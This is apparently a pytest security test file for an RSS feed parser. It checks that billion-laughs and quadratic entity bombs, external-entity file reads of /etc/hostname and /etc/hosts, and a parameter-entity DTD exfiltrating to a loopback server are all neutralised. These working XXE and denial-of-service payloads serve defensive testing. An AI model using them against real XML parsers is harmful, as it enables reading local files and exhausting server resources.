"""XML and feed-parser attacks against the parse stage (reliability cases B1-B5).

The audit hook records file opens and network calls made while a feed is parsed; the
hostile HTTP server counts requests. Both must stay at zero.
"""

from __future__ import annotations

import pyexpat
import sys
import threading
import time
import tracemalloc
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import fields
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

import monitor.feeds.xmlfeed
from monitor.errors import ParseError
from monitor.feeds.parse import expat_warning, parse_feed
from monitor.models import ParsedFeed

FEED_URL = "https://news.example/feed.xml"

# --- instrumentation ------------------------------------------------------------------------

_EVENTS: list[tuple[str, tuple[Any, ...]]] = []
_RECORDING = threading.Event()
_WATCHED = ("open", "os.listdir", "socket.", "urllib.Request", "http.client.connect",
            "subprocess.Popen", "os.system")


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _RECORDING.is_set() and event.startswith(_WATCHED):
        _EVENTS.append((event, args))


sys.addaudithook(_audit)  # hooks cannot be removed; it records only inside audited()


@contextmanager
def audited() -> Iterator[list[tuple[str, tuple[Any, ...]]]]:
    """Record opens and network calls made inside the block (imports excluded by warm-up)."""
    _EVENTS.clear()
    _RECORDING.set()
    try:
        yield _EVENTS
    finally:
        _RECORDING.clear()


def _opened_paths(events: list[tuple[str, tuple[Any, ...]]]) -> list[str]:
    return [str(args[0]) for event, args in events if event == "open"]


def _network(events: list[tuple[str, tuple[Any, ...]]]) -> list[str]:
    return [event for event, _ in events if event != "open"]


def _all_text(feed: ParsedFeed) -> str:
    """Every string the parse stage returns, for "never appears anywhere" assertions."""
    parts = [feed.title or "", feed.link or "", feed.language or "", *feed.warnings]
    for entry in feed.entries:
        parts += [str(getattr(entry, f.name) or "") for f in fields(entry)]
    return "\n".join(parts)


@contextmanager
def hostile_server() -> Iterator[tuple[int, list[str]]]:
    """A loopback HTTP server serving an evil DTD; yields its port and the paths requested."""
    hits: list[str] = []
    dtd = b'<!ENTITY % all "<!ENTITY leak SYSTEM \'http://127.0.0.1/?%data;\'>">'

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "application/xml-dtd")
            self.end_headers()
            self.wfile.write(dtd)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield server.server_address[1], hits
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(autouse=True)
def _warm_up() -> None:
    # The first parse imports lazily loaded modules; those opens are not the feed's doing.
    parse_feed(b"<rss><channel><item><title>warm</title></item></channel></rss>", url=FEED_URL)


# --- B1 --------------------------------------------------------------------------------------


def _billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        ref = f"&lol{level - 1};" * 10
        entities.append(f'<!ENTITY lol{level} "{ref}">')
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n' + "\n".join(entities) + "\n]>\n"
        "<rss version=\"2.0\"><channel><title>&lol9;</title>"
        "<item><guid>g</guid><title>&lol9;</title><description>&lol9;</description></item>"
        "</channel></rss>"
    ).encode()


def test_sec_B1_billion_laughs_is_not_expanded() -> None:
    body = _billion_laughs()
    assert len(body) < 1024
    tracemalloc.start()
    started = time.perf_counter()
    try:
        feed = parse_feed(body, url=FEED_URL)
    finally:
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert elapsed < 2.0  # expanded, it takes minutes
    assert peak < 20 * 1024 * 1024
    assert "lollol" not in _all_text(feed)
    assert len(_all_text(feed)) < 2000


# --- B2 --------------------------------------------------------------------------------------


def test_sec_B2_external_file_entity_is_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "hostname"
    secret.write_text("secret-host-7f3a9\n")
    targets = [secret.as_uri(), "file:///etc/hostname"]
    for target in targets:
        body = (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "{target}">]>'
            '<rss version="2.0"><channel><title>&x;</title>'
            "<item><guid>g</guid><title>t &x;</title><description>&x;</description></item>"
            "</channel></rss>"
        ).encode()
        with audited() as events:
            feed = parse_feed(body, url=FEED_URL)
        text = _all_text(feed)
        assert "secret-host-7f3a9" not in text
        hostname = Path("/etc/hostname")
        if hostname.is_file() and hostname.read_text().strip():
            assert hostname.read_text().strip() not in text
        assert not [p for p in _opened_paths(events) if "hostname" in p]
        assert _network(events) == []


def test_sec_B2_parameter_entity_to_a_remote_dtd_makes_no_request() -> None:
    with hostile_server() as (port, hits):
        body = (
            '<?xml version="1.0"?>\n'
            f'<!DOCTYPE rss [<!ENTITY % data SYSTEM "file:///etc/hostname">\n'
            f'<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/evil.dtd"> %p; %all;]>\n'
            '<rss version="2.0"><channel><title>&leak;</title>'
            "<item><guid>g</guid><title>x</title></item></channel></rss>"
        ).encode()
        with audited() as events:
            try:
                feed = parse_feed(body, url=FEED_URL)
            except ParseError:
                feed = None
    assert hits == []
    assert _network(events) == []
    assert not [p for p in _opened_paths(events) if "hostname" in p]
    if feed is not None:
        assert "evil" not in _all_text(feed).replace("evil.dtd", "")


# --- B3 --------------------------------------------------------------------------------------


def _quadratic(entity_bytes: int = 50_000, references: int = 20_000) -> bytes:
    return (
        # One declaration per line: the shape feedparser's own DOCTYPE handling re-declares
        # to its loose parser, which then expands it quadratically (609 MB measured).
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n'
        '<!ENTITY big "' + "B" * entity_bytes + '">\n]>\n'
        '<rss version="2.0"><channel><title>quadratic</title>'
        "<item><guid>g</guid><title>" + "&big;" * references + "</title></item>"
        "<item><guid>h</guid><title>Still read</title></item></channel></rss>"
    ).encode()


def test_sec_B3_one_large_entity_referenced_many_times_is_not_expanded() -> None:
    body = _quadratic()
    started = time.perf_counter()
    feed = parse_feed(body, url=FEED_URL)
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0
    assert "B" * 100 not in _all_text(feed)
    assert [e.key for e in feed.entries] == ["guid:g", "guid:h"]
    assert feed.entries[1].title == "Still read"
    assert any("internal subset ignored" in w for w in feed.warnings)


def test_sec_B3_peak_memory_stays_under_50_mb() -> None:
    body = _quadratic()
    tracemalloc.start()
    try:
        parse_feed(body, url=FEED_URL)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 50 * 1024 * 1024


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
def test_sec_B3_stripping_is_not_bypassed_by_a_wide_encoding(encoding: str) -> None:
    # The stripping runs after feedparser converted the document to UTF-8.
    body = _quadratic(entity_bytes=5_000, references=2_000).decode()
    body = body.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding}"?>')
    feed = parse_feed(body.encode(encoding), url=FEED_URL)
    assert "B" * 100 not in _all_text(feed)


# --- B4 --------------------------------------------------------------------------------------


@pytest.mark.parametrize("system_id", ["file://etc/hosts", "file:///etc/hosts", "/etc/hosts"])
def test_sec_B4_doctype_system_id_is_never_opened(system_id: str) -> None:
    body = (
        f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{system_id}">'
        '<rss version="2.0"><channel><title>ok</title>'
        "<item><guid>g</guid><title>fine</title></item></channel></rss>"
    ).encode()
    with audited() as events:
        feed = parse_feed(body, url=FEED_URL)
    assert [e.title for e in feed.entries] == ["fine"]
    assert not [p for p in _opened_paths(events) if "hosts" in p]
    assert _network(events) == []


def test_sec_B4_a_body_that_is_a_path_or_url_is_never_opened_or_fetched() -> None:
    for body in (b"/etc/hosts", b"file:///etc/hosts", b"http://127.0.0.1:9/feed"):
        with audited() as events, pytest.raises(ParseError):
            parse_feed(body, url=FEED_URL)
        assert _opened_paths(events) == []
        assert _network(events) == []


# --- B5 --------------------------------------------------------------------------------------


def test_sec_B5_old_expat_produces_one_warning(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pyexpat, "version_info", (2, 5, 0))
    monkeypatch.setattr(pyexpat, "EXPAT_VERSION", "expat_2.5.0")
    warning = expat_warning()
    assert warning is not None
    assert "expat_2.5.0" in warning
    assert "2.7.2" in warning


def test_sec_B5_current_expat_gives_no_warning(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pyexpat, "version_info", (2, 7, 2))
    assert expat_warning() is None


def test_sec_B5_mitigation_is_active_whatever_the_expat_version() -> None:
    import feedparser.api

    assert feedparser.api.replace_doctype is monitor.feeds.xmlfeed._replace_doctype_safely


# --- the DOCTYPE stripper itself -------------------------------------------------------------


@pytest.mark.parametrize(("document", "expected"), [
    (b'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "x">]>\n<rss/>',
     b'<?xml version="1.0"?>\n\n<rss/>'),
    # '>' and ']' inside a quoted value or a comment do not end the declaration early.
    (b'<!DOCTYPE r [<!ENTITY a "]>"><!-- ]> --><!ENTITY b \'>\'>]><r/>', b"<r/>"),
    # Every declaration in the prolog goes, comments and PIs around them stay.
    (b'<!-- c --><!DOCTYPE a><?pi x?><!DOCTYPE b [ ]><!ENTITY stray "y"><r/>',
     b"<!-- c --><?pi x?><r/>"),
    # An unterminated declaration takes the rest of the document with it, never half of it.
    (b'<!DOCTYPE r [<!ENTITY a "x"><r>&a;</r>', b""),
    (b"<rss><channel/></rss>", b"<rss><channel/></rss>"),
    # After the root element a DOCTYPE is not XML any parser honours; left for it to reject.
    (b"<r/><!DOCTYPE x>", b"<r/><!DOCTYPE x>"),
])
def test_sec_B3_strip_doctype_removes_every_prolog_declaration(document: bytes,
                                                                expected: bytes) -> None:
    from monitor.feeds.xmlsafe import strip_doctype

    assert strip_doctype(document) == expected


def test_markup_floods_are_too_complex_before_feedparser_sees_them() -> None:
    """Issue 10's storms, refused by a byte scan in milliseconds (feedparser: minutes, 1.4 GB)."""
    from tests.hostile_support import attribute_storm, tag_storm

    for body, reason in ((attribute_storm(), "attribute flood"), (tag_storm(), "tags")):
        started = time.monotonic()
        with pytest.raises(ParseError) as caught:
            parse_feed(body, url="https://storm.example/feed")
        assert time.monotonic() - started < 1
        assert caught.value.code == "too_complex" and reason in str(caught.value)


def test_a_dense_real_sized_feed_is_not_too_complex() -> None:
    from monitor.feeds.xmlsafe import too_complex

    item = ('<item><title>T</title><link>https://n.example/a</link><guid>g</guid><description>'
            '<![CDATA[<p>Para <b>bold</b> <a href="https://n.example/x">link</a></p>]]>'
            "</description></item>")
    body = ('<rss version="2.0"><channel>' + item * 30_000 + "</channel></rss>").encode()
    assert len(body) > 5_000_000 and too_complex(body) is None
